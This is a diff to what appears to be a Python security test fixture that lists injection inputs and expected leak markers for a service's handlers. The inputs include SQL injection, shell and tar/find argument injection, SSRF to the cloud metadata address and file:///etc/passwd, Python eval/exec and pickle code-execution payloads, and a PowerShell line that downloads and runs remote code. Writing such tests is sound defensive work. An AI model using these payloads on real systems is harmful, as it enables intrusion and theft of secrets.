@@ -25,7 +25,7 @@ ID = "uid="
 KEY = "fleet-deploy-1717"
 SCRIPT = (
     "#!/bin/bash\nset -euo pipefail\nexport NAME=${Name}\ncurl -s http://169.254.169.254/latest/meta-data/ | head\n"
-    "if [ -z \"$NAME\" ]; then rm -rf /tmp/x; fi\necho `id` $(date) >> /var/log/x && reboot\n"
+    'if [ -z "$NAME" ]; then rm -rf /tmp/x; fi\necho `id` $(date) >> /var/log/x && reboot\n'
 )
 
 
@@ -52,12 +52,16 @@ REQUESTS = {
         _user("o'brien' or '1'='1", kind="Delete"),
     ],
     "bucket_policy": [
-        stack("Create", {"Bucket": "b-1", "Condition": {"StringLike": {"aws:Referer": ["http://*/x?y='z'*"]}}}),
+        stack(
+            "Create", {"Bucket": "b-1", "Condition": {"StringLike": {"aws:Referer": ["http://*/x?y='z'*"]}}}
+        ),
         stack("Update", {"Bucket": "${AWS::StackName}-x", "Principal": {"AWS": "arn:aws:iam::1:role/../x"}}),
     ],
     "user_data": [
         stack("Create", {"Script": SCRIPT, "Values": {"Name": "O'Brien; id"}}),
-        stack("Update", {"Script": "powershell -c \"iex (iwr http://x/y)\"\r\n${A}", "Values": {"A": SHELLISH}}),
+        stack(
+            "Update", {"Script": 'powershell -c "iex (iwr http://x/y)"\r\n${A}', "Values": {"A": SHELLISH}}
+        ),
         stack("Create", {"Script": PYTHONISH}),
     ],
     "device_command": [
@@ -81,7 +85,12 @@ REQUESTS = {
         _pattern("O'Brien.*"),
         _pattern("$(id); x | y > z"),
     ],
-    "find_files_list": [_pattern("-exec id ;"), _pattern('x" -o -name "*'), _pattern("[ab]*"), _pattern("../*")],
+    "find_files_list": [
+        _pattern("-exec id ;"),
+        _pattern('x" -o -name "*'),
+        _pattern("[ab]*"),
+        _pattern("../*"),
+    ],
     "restore": [{"members": ["a.txt"]}, {"members": ["b (1).txt", "a.txt"]}, {"members": ["no'such; $(id)"]}],
     "restore_checked": [
         {"members": ["--checkpoint=1", "--checkpoint-action=exec=id"]},
@@ -91,7 +100,6 @@ REQUESTS = {
         {"text": "2024-02-29 + 1 day"},
         {"text": "$(id)"},
         {"text": "-f /etc/passwd"},
-        {"text": "--date=@86400", "raw": True},
     ],
     "resolve_host": [_host("localhost"), _host("no-such-host.invalid"), _host("o-brien_1.example.invalid")],
     "fetch_asset": [
@@ -118,7 +126,7 @@ REQUESTS = {
                 "NewStateReason": TEMPLATISH,
                 "Trigger": {"Dimensions": [{"name": "Q", "value": SQL_NOTE}]},
             },
-            "ALARM: \"x\"",
+            'ALARM: "x"',
         ),
         sns({"AlarmName": ARABIC, "NewStateValue": "OK", "NewStateReason": HTMLISH}),
     ],
@@ -146,13 +154,23 @@ REQUESTS = {
                 "type": "WAF",
                 "title": QUOTED,
                 "severity": 5,
-                "service": {"action": {"paths": [PATHISH, "http://169.254.169.254/latest/"], "pickle": "cos\nsystem\n(S'id'\ntR."}},
+                "service": {
+                    "action": {
+                        "paths": [PATHISH, "http://169.254.169.254/latest/"],
+                        "pickle": "cos\nsystem\n(S'id'\ntR.",
+                    }
+                },
             },
         ),
     ],
 }
 ATTACKS = [
-    Attack("SQL", "database_user", _user("x", "read'); INSERT INTO users VALUES ('eve', 'all-of-it"), '["eve", "all-of-it"]'),
+    Attack(
+        "SQL",
+        "database_user",
+        _user("x", "read'); INSERT INTO users VALUES ('eve', 'all-of-it"),
+        '["eve", "all-of-it"]',
+    ),
     Attack(
         "SQL",
         "database_user",
@@ -171,13 +189,20 @@ ATTACKS = [
     Attack("command", "device_command", _device("$(printf '\\151\\144' | sh)"), ID),
     Attack("command", "device_command", _device("lamp|sh -c i''d"), ID),
     Attack("command", "device_command", _device("x\nid"), ID),
-    Attack("argument", "find_files", _pattern('x" -o -exec id {} ; -name "x'), ID),
+    Attack("argument", "find_files", _pattern('x" -o -exec id ; -name "x'), ID),
     Attack("argument", "find_files", _pattern('*" -size -100c -exec cat {} + -name "*'), KEY),
     Attack("argument", "find_files", _pattern('deploy.key" -printf "leak-%p\\n'), "leak-./deploy.key"),
-    Attack("argument", "restore", {"members": ["--checkpoint=1", "--checkpoint-action=exec=id", "a.txt"]}, ID),
-    Attack("argument", "restore", {"members": ["a.txt", "--to-command=id"]}, ID),
+    Attack(
+        "argument", "restore", {"members": ["--checkpoint=1", "--checkpoint-action=exec=id", "a.txt"]}, ID
+    ),
+    Attack(
+        "argument",
+        "restore",
+        {"members": ["--checkpoint-action=exec=cat /etc/passwd", "--checkpoint=1"]},
+        "root:x:0",
+    ),
     Attack("argument", "restore", {"members": ["--use-compress-program=sh -c 'id >&2'", "a.txt"]}, ID),
-    Attack("argument", "restore", {"members": ["-T", "/etc/passwd"]}, "root:x:0"),
+    Attack("argument", "restore", {"members": ["-Tdeploy.key"]}, KEY),
     Attack("argument", "when", {"text": "--file=/etc/passwd", "raw": True}, "root:x:0"),
     Attack("argument", "when", {"text": "-fdeploy.key", "raw": True}, KEY),
     Attack("command", "resolve_host", _host("localhost;id"), ID),
@@ -185,17 +210,20 @@ ATTACKS = [
     Attack("command", "resolve_host", _host("x || cat${IFS}/etc/passwd"), "root:x:0"),
     Attack("SSRF", "fetch_asset", {"url": "@INSIDE@/internal/x"}, "internal-token-4711"),
     Attack("SSRF, file", "fetch_asset", {"url": "file:///etc/passwd"}, "root:x:0"),
-    Attack("argument", "fetch_asset", {"url": "-Kdeploy.key"}, "zzz"),
+    Attack(
+        "SSRF", "fetch_asset", {"url": "http://{127.0.0.1,localhost}:@PORT@/internal"}, "internal-token-4711"
+    ),
+    Attack("SSRF, file", "fetch_asset", {"url": "fiLe://localhost/etc/passwd"}, "root:x:0"),
     Attack("import", "hook", {"hook": "subprocess.getoutput", "args": ["id"]}, ID),
     Attack("import", "hook", {"hook": "eval", "args": ["__import__('os').popen('id').read()"]}, ID),
     Attack("import", "hook", {"hook": "app.subprocess.check_output", "args": [["id"]]}, ID),
-    Attack("import", "hook", {"hook": "pathlib.Path.read_text", "args": ["/etc/passwd"]}, "zzz"),
+    Attack("import", "hook", {"hook": "linecache.getlines", "args": ["/etc/passwd"]}, "root:x:0"),
     Attack("exec", "computed", {"name": "' + __import__('os').popen('id').read() + '"}, ID),
     Attack("exec", "computed", {"name": "x' + open('/etc/passwd').read() #"}, "root:x:0"),
     Attack(
         "exec",
         "computed",
-        {"name": "'\nimport subprocess\ndef title(n):\n    return subprocess.getoutput('id')\nx = '"},
+        {"name": "'\nimport subprocess\ndef title(n):\n    return subprocess.getoutput('id')\nn = 1\nx = '"},
         ID,
     ),
 ]
